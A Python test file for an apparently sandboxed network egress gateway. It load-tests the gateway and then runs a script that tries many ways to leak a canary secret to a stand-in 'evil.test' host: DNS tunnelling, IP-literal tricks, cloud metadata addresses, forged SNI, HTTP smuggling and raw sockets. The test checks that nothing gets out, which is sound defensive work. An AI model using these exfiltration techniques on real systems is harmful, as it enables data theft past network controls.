#!/usr/bin/env python3
"""caisson-gate alone, under load: thousands of connections, deaths, reload storms, slow clients; and a
program that tries to get a secret out by every way it knows. TAP; what follows the plan is a table.

    tests/gate/load.py           all; needs user namespaces, no rights
    tests/gate/load.py secret    those with the word in their title
"""
import json
import os
import random
import resource
import signal
import time

import lib
from lib import check, same, test

PUBLIC, OTHER, PUBLIC6 = "93.184.216.34", "93.184.216.35", "2606:2800:220:1::34"
ZONE = {"www.example.org": [PUBLIC], "two.example.org": [PUBLIC], "other.example.net": [OTHER]}
ALLOW = {"allow": ["*.example.org"]}
CANARY = "canary7f3a91"
table = []


def memory(pid):
    """RSS and what of it is not a file, in bytes."""
    with open(f"/proc/{pid}/status") as f:
        lines = dict(line.split(":", 1) for line in f)
    return tuple(int(lines[k].split()[0]) << 10 for k in ("VmRSS", "RssAnon"))


def cpu_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


IDLE = r'''
import resource, socket, sys, time
n = int(sys.argv[1]); resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, n + 100))
k = []
for i in range(n):
    s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=60); s.sendall(b"hi\n"); k.append(s)
for s in k: assert s.recv(3) == b"hi\n"
print("all", flush=True)
time.sleep(float(sys.argv[4]))
for s in k: s.sendall(b"ho\n")
for s in k: assert s.recv(3) == b"ho\n"
print("again")
'''


@test("thousands of idle connections are cheap, and all of them live")
def _(p):
    n = min(10000, (resource.getrlimit(resource.RLIMIT_NOFILE)[1] - 512) // 2 - 100)
    g = p.gate(ALLOW, credit=100000)
    # The records of each are taken, as the monitor would.
    before = memory(g.child())
    job = p.box.start(lib.sys.executable, "-c", IDLE, str(n), "www.example.org", "9003", "10", timeout=400)
    opened = 0
    while opened < n:
        check(g.hear(lib.PATIENCE) is not None, f"only {opened} opened")
        opened += sum(r.kind == "opened" for r in g.records)
        g.records.clear()
    time.sleep(1)
    after = memory(g.child())
    cpu = cpu_of(g.child())
    time.sleep(2)
    check(cpu_of(g.child()) - cpu < 0.05, "idle, and yet it works")
    fds = len(os.listdir(f"/proc/{g.child()}/fd"))
    each = (after[1] - before[1]) / n
    table.append(f"{n} idle connections: {(after[1] - before[1]) >> 10} KiB, {each:.0f} bytes each, {fds} descriptors")
    check(each < 1500, f"{each} bytes for each")
    check(fds < 2 * n + 100, f"{fds} descriptors")
    while p.box.results.get(job) is None and g.hear(lib.PATIENCE) is not None:
        g.records.clear()
    r = p.box.wait(job, 400)
    same(r.out.split(), ["all", "again"], r.err)


@test("more connections than there may be are refused, the others live")
def _(p):
    g = p.gate({"allow": ["*.example.org"], "rate": {"connections": "100/m"}}, credit=100000)
    code = "import socket\nk = []; bad = 0\nfor i in range(300):\n  try:\n    s = socket.create_connection(('www.example.org', 9003), timeout=40); s.sendall(b'hi\\n')\n    if s.recv(3) == b'hi\\n': k.append(s)\n    else: bad += 1\n  except OSError: bad += 1\nprint(len(k), bad)"
    begin = time.monotonic()
    good, bad = map(int, p.box.python(code, timeout=100).out.split())
    check(100 <= good <= 110 + 2 * (time.monotonic() - begin) and good + bad == 300, (good, bad))


@test("nothing leaks: thousands of connections one after the other")
def _(p):
    g = p.gate({"allow": ["*.example.org"], "inspect": ["two.example.org"]}, credit=1000000)
    code = r'''
import socket, sys
for i in range(int(sys.argv[1])):
    for host, port, data in (("www.example.org", 9003, b"hi\n"), ("www.example.org", 80, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: close\r\n\r\n"),
                             ("two.example.org", 443, b"\x16\x03\x01\x00\x04abcd"), ("www.example.org", 443, b"GET / HTTP/1.1\r\n\r\n"), ("93.184.216.34", 80, b"x")):
        try:
            s = socket.create_connection((host, port), timeout=5); s.sendall(data); s.recv(100); s.close()
        except OSError: pass
'''
    sizes = []
    for n in (200, 400, 400):
        job = p.box.start(lib.sys.executable, "-c", code, str(n), timeout=400)
        while p.box.results.get(job) is None:
            g.hear(0.5)
            g.records.clear()
        p.box.wait(job)
        sizes.append(memory(g.child())[1])
    same(len(os.listdir(f"/proc/{g.child()}/fd")) < 40, True)
    check(sizes[2] - sizes[1] < 200 << 10, sizes)
    table.append(f"memory after 1000, 3000 and 5000 connections: {[s >> 10 for s in sizes]} KiB")


@test("children killed under load: nothing wrong gets through, and all comes back")
def _(p):
    g = p.gate(ALLOW, credit=1000000)
    code = r'''
import os, socket, sys, time
good = bad = 0
while good < 40 or not os.path.exists(sys.argv[1]):
    try:
        s = socket.create_connection(("198.18.0.2", 5432), timeout=5); s.sendall(b"hello\n")
        good += s.recv(6) == b"hello\n"; s.close()
    except OSError: bad += 1
    try:
        s = socket.create_connection(("198.18.0.9", 5432), timeout=5); s.sendall(b"evil\n")
        if s.recv(5): print("EVIL")
    except OSError: pass
print(good, bad)
'''
    p.box.python("import socket; socket.gethostbyname('www.example.org')")
    stop = f"{p.folder}/stop"
    jobs = [p.box.start(lib.sys.executable, "-c", code, stop, timeout=300) for _ in range(3)]
    kills = 0
    end = time.monotonic() + 7
    while time.monotonic() < end or kills <= 20:
        time.sleep(random.uniform(0.05, 0.3))
        os.kill(g.child(), signal.SIGKILL)
        g.s.close()
        g.connect({"net": ALLOW})
        g.records.clear()
        kills += 1
    open(stop, "w").close()
    out = [p.box.wait(j, 300).out for j in jobs]
    check(all("EVIL" not in o for o in out), out)
    good = sum(int(o.split()[0]) for o in out)
    check(good > 100 and kills > 20, (good, kills))
    same([e for e in p.world.log("bytes") if "evil" in e["data"]], [])
    same(p.box.curl("http://www.example.org/").rc, 0)
    table.append(f"{kills} children killed, {good} connections good meanwhile")


@test("reload storm: bytes in flight arrive, the last rules hold")
def _(p):
    g = p.gate(ALLOW, credit=100000)
    code = "import socket\ns = socket.create_connection(('www.example.org', 9001)); s.sendall(b'300000000\\n'); n = 0\nwhile (d := s.recv(1 << 20)): n += len(d)\nprint(n)"
    job = p.box.start(lib.sys.executable, "-c", code, timeout=300)
    g.record(kind="opened")
    n = 0
    while p.box.results.get(job) is None and n < 2000:
        same(g.rules({"net": {"allow": ["www.example.org"] + [f"h{n}.example.org"]}}).is_refused, 0)
        n += 1
    same(p.box.wait(job, 300).out.strip(), "300000000")
    g.rules({"net": {"allow": ["two.example.org"]}})
    r = p.box.curl("http://www.example.org/")
    same(r.rc, 6)
    table.append(f"{n} reloads during one download")


@test("slow clients and slow servers end, and others do not notice")
def _(p):
    g = p.gate(ALLOW, credit=100000)
    code = r'''
import socket, time
k = [socket.create_connection(("www.example.org", port)) for port in (443, 80, 25) for _ in range(100)]
for s in k[:200]: s.sendall(b"\x16" if k.index(s) < 100 else b"G")
time.sleep(20)
dead = 0
for s in k[:100]:
    s.settimeout(0.1)
    try: dead += s.recv(1) == b""
    except ConnectionResetError: dead += 1
    except TimeoutError: pass
print(dead)
'''
    job = p.box.start(lib.sys.executable, "-c", code, timeout=200)
    time.sleep(2)
    start = time.monotonic()
    same(p.box.curl("http://www.example.org/").rc, 0)
    check(time.monotonic() - start < lib.AT_ONCE, "slow")
    before = cpu_of(g.child())
    time.sleep(5)
    check(cpu_of(g.child()) - before < 0.2, "it spins")
    same(p.box.wait(job, 200).out.strip(), "100")


@test("clients that ask for much and take nothing: what is kept for them is bounded")
def _(p):
    g = p.gate(ALLOW, credit=100000)
    code = r'''
import socket, sys, time
k = []
for i in range(int(sys.argv[1])):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096); s.connect(("198.18.0.2", 80))
    s.sendall(b"GET /big/100000000 HTTP/1.1\r\nHost: www.example.org\r\n\r\n"); k.append(s)
time.sleep(8)
'''
    p.box.python("import socket; socket.gethostbyname('www.example.org')")
    job = p.box.start(lib.sys.executable, "-c", code, "1500", timeout=200)
    most = 0
    while p.box.results.get(job) is None:
        g.hear(0.2)
        g.records.clear()
        most = max(most, memory(g.child())[1])
    table.append(f"1500 clients that take nothing: {most >> 20} MiB")
    check(most < 140 << 20, most)
    same(p.box.curl("http://www.example.org/").rc, 0)


# ---- a secret ----------------------------------------------------------------------------------

STEAL = r'''
import ctypes, os, socket, ssl, struct, sys, threading, time
canary = sys.argv[1]; data = canary.encode()
tried = []
def attempt(name):
    def run(f):
        s = None
        try: f(); tried.append(name)
        except Exception as e: tried.append(name + ":" + type(e).__name__)
    return run
socket.setdefaulttimeout(1)
def query(name, kind): return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
names = [canary + ".evil.test", canary + ".example.net", canary + ".a.example.org", "x." + canary, canary + "\x01.test"]
for server in ("198.18.0.1", "8.8.8.8", "10.99.0.2", "2001:4860:4860::8888", "fd99::2"):
    for kind in (1, 28, 16, 15, 12, 5, 10, 33, 64, 65, 255, 99):
        @attempt("dns")
        def _():
            s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2)
            for n in names: s.sendto(query(n, kind), (server, 53))
            s.sendto(data * 10, (server, 53)); s.recv(4096)
    @attempt("dns-tcp")
    def _():
        s = socket.create_connection((server, 53)); q = query(names[0], 16); s.sendall(struct.pack(">H", len(q)) + q); s.sendall(data * 50); s.recv(100)
    @attempt("dot")
    def _():
        s = socket.create_connection((server, 853)); s.sendall(data); s.recv(1)
for n in names:
    @attempt("getaddrinfo")
    def _(): socket.getaddrinfo(n, 80)
literals = ["93.184.216.35", "1572395043", "0x5db8d823", "0135.0270.0330.043", "93.12113955", "[2606:2800:220:1::34]", "[::ffff:93.184.216.35]", "[64:ff9b::5db8:d823]", "10.1.2.3", "169.254.169.254", "100.100.100.200", "[fd00:ec2::254]", "198.18.0.200", "0.0.0.0", "10.99.0.1", "10.99.0.2"]
for l in literals:
    for port in (80, 443, 53, 22, 5432, 9000, 3128, 1080):
        @attempt("literal")
        def _():
            s = socket.create_connection((l.strip("[]"), port)); s.sendall(b"GET /" + data + b" HTTP/1.1\r\nHost: " + l.encode() + b"\r\n\r\n"); s.recv(10)
for family in (socket.AF_INET, socket.AF_INET6):
    to = "93.184.216.35" if family == socket.AF_INET else "2606:2800:220:1::34"
    for port in (443, 123, 5353, 3478, 51820, 53):
        @attempt("udp")
        def _():
            s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(data * 100, (to, port)); s.recv(10)
    for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132), (socket.SOCK_DGRAM, 136)):
        @attempt("raw")
        def _(): s = socket.socket(family, kind, proto); s.sendto(b"\x08\0\0\0" + data, (to, 0))
@attempt("packet")
def _(): s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300); s.sendto(data, ("lo", 0x800))
@attempt("vsock")
def _(): s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.connect((2, 80)); s.sendall(data)
def tls(host, port, sni, alpn=None, inner=b""):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    if alpn: c.set_alpn_protocols(alpn)
    s = c.wrap_socket(socket.create_connection((host, port)), server_hostname=sni); s.sendall(inner or data); s.recv(10)
for sni in (canary + ".evil.test", canary + ".www.example.org", "www.example.org." + canary, "other.example.net", canary, None):
    for port in (443, 8443, 853, 5432):
        @attempt("sni")
        def _(): tls("www.example.org", port, sni)
def http(text, port=80): s = socket.create_connection(("www.example.org", port)); s.sendall(text.replace("CANARY", canary).encode()); s.recv(1000); s.recv(1000)
for text in ("GET / HTTP/1.1\r\nHost: CANARY.evil.test\r\n\r\n", "GET http://CANARY.evil.test/ HTTP/1.1\r\nHost: CANARY.evil.test\r\n\r\n", "GET http://CANARY.evil.test/ HTTP/1.1\r\nHost: www.example.org\r\n\r\n",
             "CONNECT CANARY.evil.test:443 HTTP/1.1\r\nHost: CANARY.evil.test:443\r\n\r\n", "CONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\nX: CANARY\r\n\r\n", "GET / HTTP/1.1\r\nHost: www.example.org\r\nHost: CANARY\r\n\r\n",
             "GET / HTTP/1.1\nHost: www.example.org\nX: CANARY\n\n", "TRACE / HTTP/1.1\r\nHost: www.example.org\r\nX: CANARY\r\n\r\n", "POST / HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /CANARY HTTP/1.1\r\n\r\n",
             "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nCANARY", "GET / HTTP/1.1\r\nX: CANARY\r\n\r\n", "CANARY / HTTP/1.1\r\nHost: evil.test\r\n\r\n", " GET / HTTP/1.1\r\nHost: www.example.org\r\nX: CANARY\r\n\r\n"):
    for port in (80, 8080):
        @attempt("http")
        def _(): http(text, port)
@attempt("not-tls-on-443")
def _(): http("CANARY\r\n", 443)
@attempt("ssh-on-443")
def _(): http("SSH-2.0-CANARY\r\n", 443)
@attempt("redirect")
def _():
    import urllib.request; urllib.request.urlopen("http://www.example.org/redirect/" + "other.example.net")
@attempt("late-http")
def _():
    s = socket.create_connection(("www.example.org", 25)); s.recv(10); s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nX: " + data + b"\r\n\r\n"); s.recv(10)
@attempt("late-tls")
def _():
    s = socket.create_connection(("www.example.org", 8443)); time.sleep(0.6)
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    c.wrap_socket(s, server_hostname=canary + ".evil.test")
@attempt("held")
def _():
    s = socket.create_connection(("held.example.com", 5432)); s.sendall(data + b"\n"); time.sleep(1.5); s.recv(10)
@attempt("abstract")
def _(): s = socket.socket(socket.AF_UNIX); s.connect("\0caisson-catcher"); s.sendall(data)
print(len(tried), sorted(set(tried)))
'''


@test("a secret: every way out that a program knows, and nothing arrives")
def _(p):
    g = p.gate({"allow": ["www.example.org"], "ask": ["held.example.com"]}, ask_ms=1000, credit=1000000)
    zone = {**ZONE, "held.example.com": [PUBLIC], f"{CANARY}.evil.test": [OTHER]}
    p.world.say(do="zone", zone=zone)
    job = p.box.start(lib.sys.executable, "-c", STEAL, CANARY, timeout=600)
    while p.box.results.get(job) is None:
        if g.hear(1) is not None and len(g.records) > 5000:
            g.records.clear()
    r = p.box.wait(job, 600)
    check(r.rc == 0, r.err[-500:])
    seen = json.dumps(p.world.log())
    check(CANARY not in seen, seen[max(0, seen.find(CANARY) - 300):seen.find(CANARY) + 100])
    reached = {(e["to"], e["port"]) for e in p.world.log("connect")}
    check(all(to == PUBLIC for to, _ in reached), reached)
    names = {e["name"] for e in p.world.log("dns")}
    check(names <= {"www.example.org"}, names)
    table.append(f"{r.out.split()[0]} attempts to get a secret out; reached: {sorted(port for _, port in reached)} of the allowed host")


if __name__ == "__main__":
    try:
        lib.main(ZONE)
    finally:
        for line in table:
            print(line)
